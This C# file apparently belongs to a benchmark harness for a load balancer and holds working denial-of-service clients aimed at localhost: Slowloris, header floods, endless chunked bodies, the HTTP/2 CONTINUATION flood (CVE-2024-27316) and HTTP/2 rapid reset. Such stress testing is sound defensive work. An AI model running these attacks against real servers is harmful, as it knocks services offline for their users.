using System.Buffers.Binary;
using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Declarative.Bench.Lb;

/// <summary>
/// Clients that mean harm, in a process of their own and at bounded rates, so that the machine is not what they exhaust. Says "on" once it is at work; ends
/// with its input.
/// </summary>
internal static class Attack
{
    /// <summary>Each with what it does.</summary>
    public static readonly string[] Kinds = ["idle", "slow", "flood", "body", "reset", "continuation"];

    private const int SlowConnections = 500;
    private const int FloodsPerSecond = 100;
    private const int FloodBytes = 64 * 1024;
    private const int BodyConnections = 20;
    private const int BodyPieceBytes = 16 * 1024;
    private static readonly TimeSpan BodyPieceEvery = TimeSpan.FromMilliseconds(20);
    private const int ContinuationConnections = 10;
    private const int ContinuationBytes = 4 * 1024;
    private static readonly TimeSpan ContinuationEvery = TimeSpan.FromMilliseconds(5);
    private const int ResetsPerRound = 100;
    private static readonly TimeSpan ResetsEvery = TimeSpan.FromMilliseconds(50);

    public static async Task<int> Run(string kind, int port, int connections)
    {
        using var stop = new CancellationTokenSource();
        var running = kind switch
        {
            "idle" => await Idle(port, connections),
            "slow" => Task.WhenAll(Enumerable.Range(0, SlowConnections).Select(_ => Again(() => Slow(port, stop.Token), stop.Token))),
            "flood" => Flood(port, stop.Token),
            "body" => Task.WhenAll(Enumerable.Range(0, BodyConnections).Select(_ => Again(() => Body(port, stop.Token), stop.Token))),
            "continuation" => Task.WhenAll(Enumerable.Range(0, ContinuationConnections).Select(_ => Again(() => Continuations(port, stop.Token), stop.Token))),
            _ => Again(() => Reset(port, stop.Token), stop.Token),
        };
        await Console.Out.WriteLineAsync("on");
        await Console.In.ReadToEndAsync(CancellationToken.None);
        await stop.CancelAsync();
        await running;
        return 0;
    }

    /// <summary>Connections that ask once and then say nothing.</summary>
    private static async Task<Task> Idle(int port, int count)
    {
        var buffer = new byte[1024];
        var open = new List<Socket>(count);
        for (var i = 0; i < count; i++)
        {
            // More than one address: the ports of one do not reach that far beside everybody else's.
            var socket = await Connect(port, IPAddress.Parse(string.Create(CultureInfo.InvariantCulture, $"127.0.1.{i / 1000 + 1}")));
            open.Add(socket);
            await socket.SendAsync("GET / HTTP/1.1\r\nHost: idle.example\r\n\r\n"u8.ToArray());
            if (await socket.ReceiveAsync(buffer) == 0) throw new InvalidOperationException($"connection {i} was closed");
        }
        Held.AddRange(open);
        return Task.CompletedTask;
    }

    private static readonly List<Socket> Held = [];

    /// <summary>Slowloris: a head that never ends, a byte every second.</summary>
    private static async Task Slow(int port, CancellationToken stop)
    {
        using var socket = await Connect(port);
        await socket.SendAsync("GET / HTTP/1.1\r\nHost: slow.example\r\nX-Slow: "u8.ToArray(), stop);
        for (; ; await Task.Delay(TimeSpan.FromSeconds(1), stop)) await socket.SendAsync("x"u8.ToArray(), stop);
    }

    /// <summary>Heads of more bytes than anybody takes.</summary>
    private static async Task Flood(int port, CancellationToken stop)
    {
        var head = Encoding.ASCII.GetBytes("GET / HTTP/1.1\r\nHost: flood.example\r\n" + string.Concat(Enumerable.Range(0, FloodBytes / 64).Select(x => $"X-{x:D6}: {new string('f', 52)}\r\n")) + "\r\n");
        using var every = new PeriodicTimer(TimeSpan.FromSeconds(1.0 / FloodsPerSecond));
        var buffer = new byte[4096];
        while (!stop.IsCancellationRequested)
        {
            try
            {
                await every.WaitForNextTickAsync(stop);
                using var socket = await Connect(port);
                await socket.SendAsync(head, stop);
                await socket.ReceiveAsync(buffer, stop);
            }
            catch (Exception e) when (e is SocketException or OperationCanceledException)
            {
                continue; // it was refused, as it should be
            }
        }
    }

    /// <summary>Bodies in chunks that have no end.</summary>
    private static async Task Body(int port, CancellationToken stop)
    {
        using var socket = await Connect(port);
        await socket.SendAsync("POST / HTTP/1.1\r\nHost: body.example\r\nTransfer-Encoding: chunked\r\n\r\n"u8.ToArray(), stop);
        var piece = Encoding.ASCII.GetBytes($"{BodyPieceBytes:x}\r\n{new string('b', BodyPieceBytes)}\r\n");
        await Task.Delay(BodyPieceEvery * Random.Shared.NextDouble(), stop); // not all at the same moment, as if they were one
        for (var answer = new byte[4096]; ; await Task.Delay(BodyPieceEvery, stop))
        {
            await socket.SendAsync(piece, stop);
            if (socket.Available > 0 && await socket.ReceiveAsync(answer, stop) == 0) return;
        }
    }

    /// <summary>A block of headers over HTTP/2 that has no end (CVE-2024-27316 and its kin): frames of CONTINUATION, none of them the last.</summary>
    private static async Task Continuations(int port, CancellationToken stop)
    {
        using var socket = await Connect(port);
        await socket.SendAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u0004\0\0\0\0\0"u8.ToArray(), stop);
        byte[] begin = [0, 0, 6, 1, 1, 0, 0, 0, 1, 0x82, 0x86, 0x84, 0x41, 1, (byte)'x']; // HEADERS with END_STREAM and without END_HEADERS
        await socket.SendAsync(begin, stop);
        // Literal headers without a place in the table, each of 64 bytes: RFC 7541 section 6.2.2.
        byte[] header = [0, 6, .. "x-more"u8, 55, .. Enumerable.Repeat((byte)'c', 55)];
        var more = new byte[9 + ContinuationBytes];
        (more[1], more[3], more[8]) = (ContinuationBytes >> 8, 9, 1);
        for (var at = 9; at < more.Length; at += header.Length) header.CopyTo(more, at);
        await Task.Delay(ContinuationEvery * Random.Shared.NextDouble(), stop);
        for (var drop = new byte[4096]; ; await Task.Delay(ContinuationEvery, stop))
        {
            await socket.SendAsync(more, stop);
            if (socket.Available > 0 && await socket.ReceiveAsync(drop, stop) == 0) return;
        }
    }

    /// <summary>HTTP/2 rapid reset: requests that are taken back at once.</summary>
    private static async Task Reset(int port, CancellationToken stop)
    {
        using var socket = await Connect(port);
        await socket.SendAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u0004\0\0\0\0\0"u8.ToArray(), stop);
        byte[] block = [0x82, 0x86, 0x84, 0x41, 1, (byte)'x']; // RFC 7541: GET, http, "/", authority "x"
        const int Pair = 9 + 6 + 9 + 4;
        var frames = new byte[ResetsPerRound * Pair];
        var drop = new byte[64 * 1024];
        for (uint stream = 1; stream < int.MaxValue - 2 * ResetsPerRound;)
        {
            for (var i = 0; i < ResetsPerRound; i++, stream += 2)
            {
                var at = frames.AsSpan(i * Pair, Pair);
                at.Clear();
                (at[2], at[3], at[4]) = (6, 1, 5); // HEADERS with END_STREAM and END_HEADERS
                BinaryPrimitives.WriteUInt32BigEndian(at[5..], stream);
                block.CopyTo(at[9..]);
                at = at[15..];
                (at[2], at[3]) = (4, 3); // RST_STREAM
                BinaryPrimitives.WriteUInt32BigEndian(at[5..], stream);
                at[12] = 8; // CANCEL
            }
            await socket.SendAsync(frames, stop);
            while (socket.Available > 0)
            {
                if (await socket.ReceiveAsync(drop, stop) == 0) return;
            }
            await Task.Delay(ResetsEvery, stop);
        }
    }

    private static async Task Again(Func<Task> once, CancellationToken stop)
    {
        while (!stop.IsCancellationRequested)
        {
            try
            {
                await once();
            }
            catch (Exception e) when (e is SocketException or OperationCanceledException)
            {
                // Thrown out, as it should be: it comes again, a little later.
                await Task.Delay(10, CancellationToken.None);
            }
        }
    }

    private static async Task<Socket> Connect(int port, IPAddress? from = null)
    {
        var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
        if (from is not null) socket.Bind(new IPEndPoint(from, 0));
        await socket.ConnectAsync(IPAddress.Loopback, port);
        return socket;
    }
}
